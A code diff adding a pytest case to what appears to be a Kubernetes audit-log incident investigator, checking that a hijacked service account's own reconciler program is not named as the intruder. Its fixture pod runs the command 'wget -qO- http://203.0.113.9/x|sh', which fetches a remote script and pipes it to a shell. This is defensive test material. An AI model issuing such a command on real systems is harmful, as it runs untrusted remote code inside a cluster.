@@ -367,3 +367,35 @@ def test_whose_token_was_stolen_is_not_the_thief(
     incident = only(judged(log))
     assert set(used) <= set(incident.audit_ids)
     assert not set(made) & set(incident.audit_ids)
+
+
+@pytest.mark.parametrize(
+    ("agent", "minute", "own"),
+    [
+        ("reconciler/v1.5 (linux/amd64)", 0, True),
+        ("reconciler/v1.5 (linux/amd64)", 7, False),
+        ("curl/8.5.0", 0, False),
+        ("", 0, False),
+    ],
+    ids=["its program", "a program that came after", "a person's tool", "a client without a name"],
+)
+def test_in_a_pod_that_was_taken_over_the_accounts_own_program_is_not_the_intruder(
+    judged: Investigate, agent: str, minute: int, *, own: bool
+) -> None:
+    """A short log, in which nobody is established; the intruder has the program's address, account and token."""
+    log = Log()
+    who: dict[str, Any] = {"by": account("gitops", "reconciler"), "address": "10.244.1.2"}
+    log.quiet_day(first=13, last=14)
+    at_work = [
+        log.request("list", "configmaps", at=f"13:{minute + number:02}:30", agent=agent, **who) for number in range(9)
+    ]
+    spec = {
+        "containers": [{"name": "c", "image": "alpine", "command": ["sh", "-c", "wget -qO- http://203.0.113.9/x|sh"]}]
+    }
+    body = {"kind": "Pod", "metadata": {"name": "run", "namespace": "shop"}, "spec": spec}
+    deed = log.request("create", "pods", at="13:04", agent="python-requests/2.32", namespace="shop", name="run",
+                       body=body, **who)  # fmt: skip
+    incident = only(judged(log))
+    assert deed in incident.audit_ids
+    assert (set(at_work) & set(incident.audit_ids) == set()) is own
+    assert any("the account's own program" in sentence.en for sentence in incident.actors[0].why) is own
